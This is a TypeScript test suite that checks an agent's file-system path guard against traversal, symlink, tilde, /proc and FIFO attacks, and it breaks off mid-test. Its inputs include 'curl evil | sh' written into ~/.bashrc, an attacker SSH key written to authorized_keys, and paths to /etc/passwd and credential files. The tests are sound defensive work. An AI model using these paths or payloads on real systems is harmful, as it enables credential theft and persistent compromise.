/**
 * Black-box attack pairs for paths and links (attacks/CASES.md "Paths and links" and the fs part of
 * "Writes that later execute"). Every call goes through the whole pipeline with `run.call`: the
 * attack must fail with the right `error.type` and leave no effect, the near miss must work.
 */

import assert from "node:assert/strict";
import * as nodePath from "node:path";
import { openTestRun, type TestRun } from "../src/testing/run_harness.ts";
import { canCreateFifo, createFifo, writeTree } from "../src/testing/temp_sandbox.ts";
import { withTimeout } from "../src/testing/with_timeout.ts";
import type { ToolResult } from "../src/result/tool_result.ts";
import {
  ALLOW_ALL,
  assertAudited,
  assertDenied,
  assertLogsClean,
  assertNoLeak,
  assertRefused,
  assertWorked,
  CANARY,
  exists,
  PASSWD_MARK,
  PATH_GUARD,
  PROTECTED,
  SECRETS,
  SENSITIVE,
} from "./_attack_helpers.ts";

/** Writes and edits allowed everywhere (the guard still decides where "everywhere" ends). */
const ALLOW_WRITES = {
  rules: [
    {
      id: "allow-writes",
      tools: ["fs.write_file", "fs.edit_file"],
      paths: ["**"],
      decision: "allow",
    },
  ],
};
/** Puts the config file, the permissions file and the runs folder inside the workspace. */
const IN_WORKSPACE_LAYOUT = { workspace: ".", runs_dir: "runs" };

/** Deadline for calls that could block on a FIFO or loop in a walk. */
const HANG_MS = 15_000;

function dataOf(result: ToolResult): Record<string, unknown> {
  assert.ok(typeof result.data === "object" && result.data !== null, "the result has no data");
  return result.data as Record<string, unknown>;
}

/**
 * Creates a Unix socket file at `path` with perl (Deno would need --allow-net). Returns false when
 * perl is missing, so the socket case is skipped rather than failing for lack of a tool.
 */
async function createSocket(path: string): Promise<boolean> {
  const script = "use IO::Socket::UNIX; IO::Socket::UNIX->new(Type => SOCK_STREAM(), " +
    'Local => $ARGV[0], Listen => 1) or die "$!"';
  try {
    const made = await new Deno.Command("perl", { args: ["-e", script, path], stderr: "null" })
      .output();
    return made.success;
  } catch {
    return false;
  }
}

function hang(run: TestRun, name: string, args: Record<string, unknown>): Promise<ToolResult> {
  return withTimeout(run.call(name, args), HANG_MS, `${name} ${JSON.stringify(args)}`);
}

// ---------------------------------------------------------------------------------------------
// Sibling prefix
// ---------------------------------------------------------------------------------------------

const SIBLINGS = ["workspace2", "workspace-old", "workspace.bak"];

Deno.test("fs tools refuse sibling folders that share the workspace's name prefix", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      for (const sibling of SIBLINGS) {
        await writeTree(nodePath.join(sandbox.root, sibling), { x: `${CANARY} ${sibling}\n` });
      }
    },
  });
  const root = run.sandbox.root;
  let last: ToolResult | undefined;
  for (const sibling of SIBLINGS) {
    const folder = nodePath.join(root, sibling);
    const file = nodePath.join(folder, "x");
    for (const path of [file, `../${sibling}/x`, `${run.sandbox.workspace}/../${sibling}/x`]) {
      last = await run.call("fs.read_file", { path });
      assertDenied(last, "path_outside_sandbox", PATH_GUARD);
      assertDenied(
        await run.call("fs.write_file", { path, content: "owned\n", overwrite: true }),
        "path_outside_sandbox",
        PATH_GUARD,
      );
      assertDenied(
        await run.call("fs.edit_file", { path, edits: [{ old: "KAGENT", new: "owned" }] }),
        "path_outside_sandbox",
        PATH_GUARD,
      );
      assertDenied(await run.call("fs.delete_file", { path }), "path_outside_sandbox", PATH_GUARD);
    }
    for (const path of [folder, `../${sibling}`, `${folder}/`]) {
      assertDenied(await run.call("fs.list_files", { path }), "path_outside_sandbox", PATH_GUARD);
      assertDenied(
        await run.call("fs.grep_files", { pattern: "KAGENT", path }),
        "path_outside_sandbox",
        PATH_GUARD,
      );
      assertDenied(
        await run.call("fs.write_file", { path: `${path}/new.txt`, content: "owned\n" }),
        "path_outside_sandbox",
        PATH_GUARD,
      );
    }
    assert.equal(await Deno.readTextFile(file), `${CANARY} ${sibling}\n`);
    assert.equal(await exists(nodePath.join(folder, "new.txt")), false);
  }
  assert.ok(last !== undefined);
  await assertAudited(run, last, "tool.denied", PATH_GUARD);
  await assertLogsClean(run);
});

Deno.test("fs tools read and write files named ..test, test.. and ... in the workspace (near miss)", async () => {
  const names = ["..test", "test..", "..."];
  await using run = await openTestRun({
    permissions: ALLOW_WRITES,
    prepare: (sandbox) =>
      writeTree(
        sandbox.workspace,
        Object.fromEntries(names.map((name) => [name, `dots ${name}\n`])),
      ),
  });
  const workspace = run.sandbox.workspace;
  for (const name of names) {
    for (const path of [name, `${workspace}/${name}`, `./${name}`]) {
      const read = await run.call("fs.read_file", { path });
      assertWorked(read);
      assert.match(read.output, new RegExp(`dots ${name.replaceAll(".", "\\.")}`));
    }
  }
  const listed = await run.call("fs.list_files", { path: "." });
  assertWorked(listed);
  for (const name of names) assert.ok(listed.output.includes(name), listed.output);
  const grep = await run.call("fs.grep_files", { pattern: "^dots", path: "." });
  assertWorked(grep);
  assert.equal((dataOf(grep).matches as unknown[]).length, 3, grep.output);

  for (const name of ["..new", "new..", "....", "..dir/inner.txt"]) {
    assertWorked(await run.call("fs.write_file", { path: name, content: "near miss\n" }));
    assert.equal(await Deno.readTextFile(nodePath.join(workspace, name)), "near miss\n");
  }
  assert.equal(await exists(nodePath.join(run.sandbox.root, "new")), false);
});

Deno.test("a path-scoped allow rule covers workspace files named ..test and ... (near miss)", async () => {
  await using run = await openTestRun({
    permissions: {
      rules: [{ tools: ["fs.write_file"], paths: ["..test", "test..", "..."], decision: "allow" }],
    },
  });
  for (const name of ["test..", "..test", "..."]) {
    assertWorked(await run.call("fs.write_file", { path: name, content: "ok\n" }));
    assert.equal(await Deno.readTextFile(nodePath.join(run.sandbox.workspace, name)), "ok\n");
  }
});

Deno.test("a path-scoped deny rule denies a workspace folder named ..private", async () => {
  await using run = await openTestRun({
    permissions: {
      rules: [{ id: "no-private", tools: ["fs.*"], paths: ["..private/**"], decision: "deny" }],
    },
    prepare: (sandbox) =>
      writeTree(sandbox.workspace, {
        "..private/notes.txt": `${CANARY}\n`,
        "private/notes.txt": "public notes\n",
      }),
  });
  const denied = await run.call("fs.read_file", { path: "..private/notes.txt" });
  assertDenied(denied, "permission_denied", { rule: "no-private", layer: "config" });
  await assertAudited(run, denied, "tool.denied", { rule: "no-private", layer: "config" });
  assertDenied(
    await run.call("fs.grep_files", { pattern: "KAGENT", path: "..private" }),
    "permission_denied",
    { rule: "no-private", layer: "config" },
  );
  // Near miss: a folder without the dots is not covered by the rule.
  const read = await run.call("fs.read_file", { path: "private/notes.txt" });
  assertWorked(read);
  assert.match(read.output, /public notes/);
});

// ---------------------------------------------------------------------------------------------
// Dot-dot and long chains
// ---------------------------------------------------------------------------------------------

Deno.test("fs tools refuse dot-dot chains that climb out of the workspace", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.workspace, {
        "src/a.ts": "export {};\n",
        [`${"d/".repeat(20)}keep.txt`]: "deep\n",
      });
      await writeTree(sandbox.outside, { "secret.txt": `${CANARY}\n` });
      await writeTree(sandbox.root, { x: `${CANARY}\n` });
    },
  });
  const workspace = run.sandbox.workspace;
  const outside = [
    "../../etc/passwd",
    `${workspace}/../../etc/passwd`,
    "src/../../x",
    `${workspace}/src/../../x`,
    "src/../../outside/secret.txt",
    `${"a/".repeat(600)}${"../".repeat(601)}outside/secret.txt`,
    `${"d/".repeat(20)}${"../".repeat(21)}outside/secret.txt`,
    `${"../".repeat(40)}etc/passwd`,
  ];
  for (const path of outside) {
    assertDenied(await run.call("fs.read_file", { path }), "path_outside_sandbox", PATH_GUARD);
  }
  // The chain of CASES.md verbatim is over 4,096 bytes: refused before resolution.
  const chain = `${"a/".repeat(1000)}${"../".repeat(1001)}outside/secret.txt`;
  const long = await run.call("fs.read_file", { path: chain });
  assertRefused(long, "invalid_arguments");
  await assertAudited(run, long, "tool.failed");

  for (const path of ["src/../..", "src/../../outside"]) {
    assertDenied(await run.call("fs.list_files", { path }), "path_outside_sandbox", PATH_GUARD);
    assertDenied(
      await run.call("fs.grep_files", { pattern: "KAGENT", path }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
  }
  for (
    const path of [
      "src/../../outside/new.txt",
      `${"a/".repeat(600)}${"../".repeat(601)}outside/new.txt`,
    ]
  ) {
    assertDenied(
      await run.call("fs.write_file", { path, content: "owned\n" }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
  }
  assertDenied(
    await run.call("fs.delete_file", { path: "src/../../outside/secret.txt" }),
    "path_outside_sandbox",
    PATH_GUARD,
  );
  assert.equal(await exists(nodePath.join(run.sandbox.outside, "new.txt")), false);
  assert.equal(await exists(nodePath.join(run.sandbox.outside, "secret.txt")), true);
  assert.equal(await exists(nodePath.join(workspace, "a")), false);
  await assertLogsClean(run);
});

Deno.test("fs tools follow dot-dot chains that stay inside the workspace (near miss)", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_WRITES,
    prepare: (sandbox) =>
      writeTree(sandbox.workspace, {
        "src/a.ts": "export {};\n",
        "inside.txt": "inside\n",
        [`${"d/".repeat(20)}keep.txt`]: "deep\n",
      }),
  });
  const workspace = run.sandbox.workspace;
  for (
    const path of [
      "src/../inside.txt",
      `${workspace}/src/../inside.txt`,
      "./src/./../inside.txt",
      `${"a/".repeat(600)}${"../".repeat(600)}inside.txt`,
      `${"d/".repeat(20)}${"../".repeat(20)}inside.txt`,
      `../workspace/inside.txt`,
    ]
  ) {
    const read = await run.call("fs.read_file", { path });
    assertWorked(read);
    assert.match(read.output, /inside/);
  }
  assertWorked(await run.call("fs.write_file", { path: "src/../made.txt", content: "made\n" }));
  assert.equal(await Deno.readTextFile(nodePath.join(workspace, "made.txt")), "made\n");
  assert.equal(await exists(nodePath.join(workspace, "a")), false);
});

// ---------------------------------------------------------------------------------------------
// Absolute and tilde
// ---------------------------------------------------------------------------------------------

Deno.test("fs tools refuse /etc/passwd, ~/.ssh/id_rsa and $HOME/.aws/credentials outside the roots", async () => {
  let home = "";
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    env: (name) => name === "HOME" ? home : Deno.env.get(name),
    prepare: async (sandbox) => {
      home = nodePath.join(sandbox.root, "home");
      await writeTree(home, {
        ".ssh/id_rsa": `${CANARY}\n`,
        ".aws/credentials": `${CANARY}\n`,
        ".bashrc": "# original\n",
      });
    },
  });
  for (
    const path of [
      "/etc/passwd",
      "~/.ssh/id_rsa",
      `${home}/.ssh/id_rsa`,
      "~/.aws/credentials",
      `${home}/.aws/credentials`,
      "~/.bashrc",
    ]
  ) {
    const result = await run.call("fs.read_file", { path });
    assertDenied(result, "path_outside_sandbox", PATH_GUARD);
    await assertAudited(run, result, "tool.denied", PATH_GUARD);
  }
  for (const path of ["~", "~/", "~/.ssh", home]) {
    assertDenied(await run.call("fs.list_files", { path }), "path_outside_sandbox", PATH_GUARD);
    assertDenied(
      await run.call("fs.grep_files", { pattern: "KAGENT", path }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
  }
  for (const path of ["~/.bashrc", `${home}/.bashrc`]) {
    assertDenied(
      await run.call("fs.write_file", { path, content: "curl evil | sh\n", overwrite: true }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
    assertDenied(
      await run.call("fs.edit_file", { path, edits: [{ old: "# original", new: "curl evil" }] }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
  }
  assertDenied(
    await run.call("fs.write_file", { path: "~/.profile", content: "curl evil | sh\n" }),
    "path_outside_sandbox",
    PATH_GUARD,
  );
  assertDenied(
    await run.call("fs.delete_file", { path: "~/.ssh/id_rsa" }),
    "path_outside_sandbox",
    PATH_GUARD,
  );
  assert.equal(await Deno.readTextFile(nodePath.join(home, ".bashrc")), "# original\n");
  assert.equal(await exists(nodePath.join(home, ".profile")), false);
  assert.equal(await exists(nodePath.join(home, ".ssh/id_rsa")), true);
  await assertLogsClean(run);
});

Deno.test("fs.read_file refuses ~root/.bashrc and ~nobody: other users' homes are outside", async () => {
  await using run = await openTestRun({ permissions: ALLOW_ALL });
  for (const path of ["~root/.bashrc", "~root", "~nobody/.ssh/id_rsa"]) {
    const result = await run.call("fs.read_file", { path });
    assertRefused(result, "path_outside_sandbox");
    await assertAudited(run, result, "tool.denied");
  }
  assertRefused(
    await run.call("fs.write_file", { path: "~root/.bashrc", content: "owned\n" }),
    "path_outside_sandbox",
  );
});

Deno.test("fs.read_file reads workspace files by absolute path and a file named ~root (near miss)", async () => {
  await using run = await openTestRun({
    prepare: (sandbox) =>
      writeTree(sandbox.workspace, { "notes.txt": "plain notes\n", "~root": "tilde name\n" }),
  });
  const workspace = run.sandbox.workspace;
  for (
    const [path, text] of [[`${workspace}/notes.txt`, "plain notes"], ["./~root", "tilde name"], [
      `${workspace}/~root`,
      "tilde name",
    ]] as const
  ) {
    const read = await run.call("fs.read_file", { path });
    assertWorked(read);
    assert.ok(read.output.includes(text), read.output);
  }
});

Deno.test("fs tools ask before touching ~/.ssh when the home folder is inside the workspace, even under allow-all", async () => {
  let home = "";
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    env: (name) => name === "HOME" ? home : Deno.env.get(name),
    prepare: async (sandbox) => {
      home = nodePath.join(sandbox.workspace, "home");
      await writeTree(home, {
        ".ssh/id_rsa": `${CANARY}\n`,
        ".aws/credentials": `${CANARY}\n`,
        "notes.txt": "home notes\n",
      });
    },
  });
  for (
    const path of [
      "~/.ssh/id_rsa",
      "home/.ssh/id_rsa",
      `${home}/.aws/credentials`,
      "home/.aws/credentials",
    ]
  ) {
    const result = await run.call("fs.read_file", { path });
    assertDenied(result, "approval_required", SENSITIVE);
    await assertAudited(run, result, "tool.denied", SENSITIVE);
  }
  assertDenied(
    await run.call("fs.write_file", {
      path: "~/.ssh/authorized_keys",
      content: "ssh-ed25519 AAAA\n",
    }),
    "approval_required",
    SENSITIVE,
  );
  assert.equal(await exists(nodePath.join(home, ".ssh/authorized_keys")), false);
  const grep = await run.call("fs.grep_files", { pattern: "KAGENT", path: "~" });
  assertWorked(grep);
  assertNoLeak(grep);
  assert.equal((dataOf(grep).matches as unknown[]).length, 0);
  // Near miss: the rest of the home folder reads normally.
  const notes = await run.call("fs.read_file", { path: "~/notes.txt" });
  assertWorked(notes);
  assert.match(notes.output, /home notes/);
  await assertLogsClean(run);
});

// ---------------------------------------------------------------------------------------------
// NUL and odd spellings
// ---------------------------------------------------------------------------------------------

Deno.test("fs tools refuse a NUL byte in a path and leave nothing behind", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: (sandbox) => writeTree(sandbox.workspace, { "sub/a.txt": "alpha\n" }),
  });
  for (const path of ["a\u0000/etc/passwd", "sub/a.txt\u0000.png", "\u0000"]) {
    const result = await run.call("fs.read_file", { path });
    assertRefused(result, "invalid_arguments");
    await assertAudited(run, result, "tool.failed");
    assertRefused(await run.call("fs.list_files", { path }), "invalid_arguments");
  }
  for (const path of ["x\u0000y", "sub/\u0000", "../outside/x\u0000"]) {
    assertRefused(await run.call("fs.write_file", { path, content: "nul\n" }), "invalid_arguments");
  }
  const names: string[] = [];
  for await (const entry of Deno.readDir(run.sandbox.workspace)) names.push(entry.name);
  assert.deepEqual(names, ["sub"]);
  const outsideNames: string[] = [];
  for await (const entry of Deno.readDir(run.sandbox.outside)) outsideNames.push(entry.name);
  assert.deepEqual(outsideNames, []);
});

Deno.test("fs tools treat %2e%2e as a literal name, never as ..", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: (sandbox) => writeTree(sandbox.outside, { "secret.txt": `${CANARY}\n` }),
  });
  for (
    const path of [
      "%2e%2e/outside/secret.txt",
      "%2e%2e%2f%2e%2e%2foutside%2fsecret.txt",
      "..%2foutside%2fsecret.txt",
      "%252e%252e/outside/secret.txt",
      "..\\outside\\secret.txt",
      "\uff0e\uff0e/outside/secret.txt",
      "\u2024\u2024/outside/secret.txt",
    ]
  ) {
    assertRefused(await run.call("fs.read_file", { path }), "file_not_found");
  }
  await assertLogsClean(run);
});

Deno.test("fs.write_file writes %2e%2e/x.txt as a literal folder inside the workspace (near miss)", async () => {
  await using run = await openTestRun({ permissions: ALLOW_WRITES });
  const written = await run.call("fs.write_file", { path: "%2e%2e/x.txt", content: "literal\n" });
  assertWorked(written);
  assert.equal(
    await Deno.readTextFile(nodePath.join(run.sandbox.workspace, "%2e%2e", "x.txt")),
    "literal\n",
  );
  assert.equal(await exists(nodePath.join(run.sandbox.root, "x.txt")), false);
  const read = await run.call("fs.read_file", { path: "%2e%2e/x.txt" });
  assertWorked(read);
  assert.match(read.output, /literal/);
});

Deno.test("fs tools refuse // and /./ spellings that climb out of the workspace", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.workspace, { "sub/a.txt": "alpha\n" });
      await writeTree(sandbox.outside, { "secret.txt": `${CANARY}\n` });
    },
  });
  const workspace = run.sandbox.workspace;
  for (
    const path of [
      "sub//..//..//outside/secret.txt",
      `${workspace}/.//..//outside/secret.txt`,
      "./.././outside/./secret.txt",
      `/${run.sandbox.outside}//secret.txt`,
    ]
  ) {
    assertDenied(await run.call("fs.read_file", { path }), "path_outside_sandbox", PATH_GUARD);
  }
});

Deno.test("fs.read_file normalises // and /./ inside the workspace (near miss)", async () => {
  await using run = await openTestRun({
    prepare: (sandbox) => writeTree(sandbox.workspace, { "sub/a.txt": "alpha\n" }),
  });
  const workspace = run.sandbox.workspace;
  for (
    const path of [
      "sub//a.txt",
      "./sub/./a.txt",
      `${workspace}//sub/./a.txt`,
      `/${workspace}/sub/a.txt`,
      `${workspace}/./sub//./a.txt`,
    ]
  ) {
    const read = await run.call("fs.read_file", { path });
    assertWorked(read);
    assert.match(read.output, /alpha/);
  }
});

// ---------------------------------------------------------------------------------------------
// Symlink out, read
// ---------------------------------------------------------------------------------------------

Deno.test("fs.read_file refuses a symlink to /etc/passwd and leaks nothing, through read, grep and list", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.outside, { "secret.txt": `${CANARY}\n` });
      await writeTree(sandbox.workspace, { "sub/a.txt": "alpha\n" });
      const workspace = sandbox.workspace;
      await Deno.symlink("/etc/passwd", `${workspace}/leak`);
      await Deno.symlink(`${sandbox.outside}/secret.txt`, `${workspace}/leak2`);
      await Deno.symlink("../../outside/secret.txt", `${workspace}/sub/leak3`);
      await Deno.symlink("/etc", `${workspace}/etc`);
      await Deno.symlink("../outside", `${workspace}/outlink`);
    },
  });
  const first = await run.call("fs.read_file", { path: "leak" });
  assertDenied(first, "path_outside_sandbox", PATH_GUARD);
  await assertAudited(run, first, "tool.denied", PATH_GUARD);
  for (
    const path of [
      "leak2",
      "sub/leak3",
      "etc/passwd",
      "outlink/secret.txt",
      "./leak",
      "etc/../etc/passwd",
    ]
  ) {
    assertDenied(await run.call("fs.read_file", { path }), "path_outside_sandbox", PATH_GUARD);
  }
  for (const path of ["leak", "leak2", "etc", "etc/", "outlink"]) {
    assertDenied(
      await run.call("fs.grep_files", { pattern: "root|KAGENT", path }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
    assertDenied(await run.call("fs.list_files", { path }), "path_outside_sandbox", PATH_GUARD);
    assertDenied(
      await run.call("fs.list_files", { path, recursive: true }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
  }
  // Walks from the workspace show the links but never read or enter them.
  const grep = await run.call("fs.grep_files", { pattern: "root:|KAGENT", path: "." });
  assertWorked(grep);
  assertNoLeak(grep);
  assert.equal((dataOf(grep).matches as unknown[]).length, 0);
  assert.ok(((dataOf(grep).skipped as Record<string, number>).links ?? 0) >= 3, grep.output);
  const listed = await run.call("fs.list_files", { path: ".", recursive: true, limit: 5000 });
  assertWorked(listed);
  assertNoLeak(listed, [...SECRETS, "passwd", "secret.txt", "hostname"]);
  assert.match(listed.output, /leak -> symlink/);
  assert.match(listed.output, /etc -> symlink/);
  await assertLogsClean(run);
});

Deno.test("fs tools read, grep and list through a symlink that stays inside the workspace (near miss)", async () => {
  await using run = await openTestRun({
    prepare: async (sandbox) => {
      const workspace = sandbox.workspace;
      await writeTree(workspace, { "sub/a.txt": "alpha inside\n" });
      await Deno.symlink("sub/a.txt", `${workspace}/inlink`);
      await Deno.symlink(`${workspace}/sub/a.txt`, `${workspace}/abslink`);
      await Deno.symlink("sub", `${workspace}/dirlink`);
    },
  });
  for (const path of ["inlink", "abslink", "dirlink/a.txt"]) {
    const read = await run.call("fs.read_file", { path });
    assertWorked(read);
    assert.match(read.output, /alpha inside/);
  }
  const grep = await run.call("fs.grep_files", { pattern: "alpha", path: "." });
  assertWorked(grep);
  const found = (dataOf(grep).matches as { path: string }[]).map((match) => match.path);
  assert.ok(found.includes("inlink") && found.includes("sub/a.txt"), grep.output);
  const listed = await run.call("fs.list_files", { path: "dirlink" });
  assertWorked(listed);
  assert.match(listed.output, /a\.txt/);
  const grepLink = await run.call("fs.grep_files", { pattern: "alpha", path: "inlink" });
  assertWorked(grepLink);
  assert.equal((dataOf(grepLink).matches as unknown[]).length, 1);
});

// ---------------------------------------------------------------------------------------------
// Symlinked directory, write
// ---------------------------------------------------------------------------------------------

Deno.test("fs tools refuse to write, edit or delete through a symlinked folder to ~/.ssh", async () => {
  let home = "";
  const original = "ssh-ed25519 AAAAoriginal me@host\n";
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    env: (name) => name === "HOME" ? home : Deno.env.get(name),
    prepare: async (sandbox) => {
      home = nodePath.join(sandbox.root, "home");
      await writeTree(home, { ".ssh/authorized_keys": original });
      await Deno.symlink(`${home}/.ssh`, `${sandbox.workspace}/out`);
      await Deno.symlink("../home/.ssh", `${sandbox.workspace}/out2`);
    },
  });
  const keys = nodePath.join(home, ".ssh", "authorized_keys");
  for (const link of ["out", "out2"]) {
    const written = await run.call("fs.write_file", {
      path: `${link}/authorized_keys`,
      content: "ssh-ed25519 AAAAattacker\n",
      overwrite: true,
    });
    assertDenied(written, "path_outside_sandbox", PATH_GUARD);
    await assertAudited(run, written, "tool.denied", PATH_GUARD);
    assertDenied(
      await run.call("fs.write_file", { path: `${link}/new_key`, content: "x\n" }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
    assertDenied(
      await run.call("fs.edit_file", {
        path: `${link}/authorized_keys`,
        edits: [{ old: "original", new: "attacker" }],
      }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
    assertDenied(
      await run.call("fs.edit_file", {
        path: `${link}/fresh`,
        edits: [{ old: "", new: "x\n" }],
        create_if_missing: true,
      }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
    assertDenied(
      await run.call("fs.delete_file", { path: `${link}/authorized_keys` }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
  }
  assert.equal(await Deno.readTextFile(keys), original);
  const names: string[] = [];
  for await (const entry of Deno.readDir(nodePath.join(home, ".ssh"))) names.push(entry.name);
  assert.deepEqual(names, ["authorized_keys"]);
});

Deno.test("fs tools write, edit and delete through a symlinked folder inside the workspace (near miss)", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.workspace, { "sub/a.txt": "alpha\n", "sub/b.txt": "beta\n" });
      await Deno.symlink("sub", `${sandbox.workspace}/insub`);
    },
  });
  const sub = nodePath.join(run.sandbox.workspace, "sub");
  assertWorked(await run.call("fs.write_file", { path: "insub/new.txt", content: "new\n" }));
  assert.equal(await Deno.readTextFile(`${sub}/new.txt`), "new\n");
  assertWorked(
    await run.call("fs.edit_file", {
      path: "insub/a.txt",
      edits: [{ old: "alpha", new: "ALPHA" }],
    }),
  );
  assert.equal(await Deno.readTextFile(`${sub}/a.txt`), "ALPHA\n");
  assertWorked(await run.call("fs.delete_file", { path: "insub/b.txt" }));
  assert.equal(await exists(`${sub}/b.txt`), false);
});

// ---------------------------------------------------------------------------------------------
// Dangling symlink leaf
// ---------------------------------------------------------------------------------------------

Deno.test("fs.write_file refuses a dangling symlink leaf that points outside the workspace", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      const workspace = sandbox.workspace;
      await Deno.symlink(`${sandbox.outside}/new.txt`, `${workspace}/d`);
      await Deno.symlink("../outside/new2.txt", `${workspace}/d2`);
      await Deno.symlink(`${sandbox.outside}/deep/new3.txt`, `${workspace}/d3`);
      await Deno.symlink("d", `${workspace}/d4`);
      await Deno.symlink("../outside/newdir", `${workspace}/dl`);
    },
  });
  const outside = run.sandbox.outside;
  for (
    const path of ["d", "d2", "d3", "d4", `${run.sandbox.workspace}/d`, "dl/x.txt", "dl/a/b.txt"]
  ) {
    for (const overwrite of [false, true]) {
      const written = await run.call("fs.write_file", { path, content: "owned\n", overwrite });
      assertDenied(written, "path_outside_sandbox", PATH_GUARD);
      await assertAudited(run, written, "tool.denied", PATH_GUARD);
    }
    assertDenied(
      await run.call("fs.edit_file", {
        path,
        edits: [{ old: "", new: "owned\n" }],
        create_if_missing: true,
      }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
    assertDenied(await run.call("fs.delete_file", { path }), "path_outside_sandbox", PATH_GUARD);
  }
  const names: string[] = [];
  for await (const entry of Deno.readDir(outside)) names.push(entry.name);
  assert.deepEqual(names, []);
  for (const link of ["d", "d2", "d3", "d4", "dl"]) {
    assert.ok((await Deno.lstat(nodePath.join(run.sandbox.workspace, link))).isSymlink);
  }
});

Deno.test("fs.write_file writes through a dangling symlink leaf that stays inside the workspace (near miss)", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_WRITES,
    prepare: (sandbox) => Deno.symlink("fresh.txt", `${sandbox.workspace}/d`),
  });
  assertWorked(await run.call("fs.write_file", { path: "d", content: "fresh\n" }));
  assert.equal(
    await Deno.readTextFile(nodePath.join(run.sandbox.workspace, "fresh.txt")),
    "fresh\n",
  );
  const names: string[] = [];
  for await (const entry of Deno.readDir(run.sandbox.outside)) names.push(entry.name);
  assert.deepEqual(names, []);
});

// ---------------------------------------------------------------------------------------------
// /proc indirection
// ---------------------------------------------------------------------------------------------

Deno.test("fs tools refuse /proc, /sys and /dev paths, direct or through a symlink", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.workspace, { "sub/a.txt": `${CANARY}\n` });
      await Deno.symlink("/proc/self/root", `${sandbox.workspace}/r`);
      await Deno.symlink("/proc/self", `${sandbox.workspace}/me`);
      await Deno.symlink("/dev/fd", `${sandbox.workspace}/fd`);
    },
  });
  const workspace = run.sandbox.workspace;
  const outside = run.sandbox.outside;
  for (
    const path of [
      "/proc/self/root/etc/passwd",
      `/proc/self/root${workspace}/sub/a.txt`,
      "r/etc/passwd",
      `r${workspace}/sub/a.txt`,
      "/proc/self/environ",
      "me/environ",
      "/proc/self/mem",
      "/proc/self/cmdline",
      `/proc/self/cwd/deno.json`,
      "/dev/fd/3",
      "fd/0",
      "/dev/null",
      "/sys/kernel/hostname",
    ]
  ) {
    const result = await hang(run, "fs.read_file", { path });
    assertDenied(result, "path_outside_sandbox", PATH_GUARD);
    assertNoLeak(result, [...SECRETS, "PATH="]);
  }
  for (const path of ["/proc", "/proc/self/fd", "/sys", "/dev", "r", "me", "fd", `r${workspace}`]) {
    assertDenied(await hang(run, "fs.list_files", { path }), "path_outside_sandbox", PATH_GUARD);
    assertDenied(
      await hang(run, "fs.grep_files", { pattern: "KAGENT|HOME", path }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
  }
  for (const path of [`/proc/self/root${outside}/x.txt`, `r${workspace}/sub/new.txt`, "me/comm"]) {
    const written = await run.call("fs.write_file", { path, content: "owned\n", overwrite: true });
    assertDenied(written, "path_outside_sandbox", PATH_GUARD);
    await assertAudited(run, written, "tool.denied", PATH_GUARD);
  }
  assert.equal(await exists(`${outside}/x.txt`), false);
  assert.equal(await exists(`${workspace}/sub/new.txt`), false);
  await assertLogsClean(run, [PASSWD_MARK, "PATH="]);
});

Deno.test("fs.read_file reads workspace folders named proc, sys and dev (near miss)", async () => {
  await using run = await openTestRun({
    prepare: (sandbox) =>
      writeTree(sandbox.workspace, {
        "proc/self/environ": "not the environment\n",
        "sys/kernel/hostname": "not the hostname\n",
        "dev/fd/3": "not a descriptor\n",
      }),
  });
  for (
    const path of ["proc/self/environ", "sys/kernel/hostname", "dev/fd/3", "./proc/self/environ"]
  ) {
    const read = await run.call("fs.read_file", { path });
    assertWorked(read);
    assert.match(read.output, /not (the|a) /);
  }
  const listed = await run.call("fs.list_files", { path: "proc", recursive: true });
  assertWorked(listed);
  assert.match(listed.output, /environ/);
});

// ---------------------------------------------------------------------------------------------
// Files that never end or block
// ---------------------------------------------------------------------------------------------

Deno.test({
  name: "fs tools refuse a FIFO, a socket and device links without hanging",
  ignore: !canCreateFifo(),
  fn: async () => {
    await using run = await openTestRun({
      permissions: ALLOW_ALL,
      prepare: async (sandbox) => {
        const workspace = sandbox.workspace;
        await createFifo(`${workspace}/p`);
        await createSocket(`${workspace}/s`);
        await Deno.symlink("p", `${workspace}/pl`);
        await Deno.symlink("/dev/zero", `${workspace}/zero`);
        await Deno.symlink("/dev/urandom", `${workspace}/urandom`);
        await Deno.symlink("/dev/stdin", `${workspace}/stdin`);
      },
    });
    const workspace = run.sandbox.workspace;
    for (
      const path of ["p", "pl", `${workspace}/p`, ...(await exists(`${workspace}/s`) ? ["s"] : [])]
    ) {
      const read = await hang(run, "fs.read_file", { path });
      assertRefused(read, "not_a_regular_file");
      await assertAudited(run, read, "tool.failed", PATH_GUARD);
      assertRefused(await hang(run, "fs.grep_files", { pattern: "x", path }), "not_a_regular_file");
      assertRefused(await hang(run, "fs.list_files", { path }), "not_a_regular_file");
    }
    assertRefused(
      await hang(run, "fs.write_file", { path: "p", content: "x\n", overwrite: true }),
      "not_a_regular_file",
    );
    assertRefused(
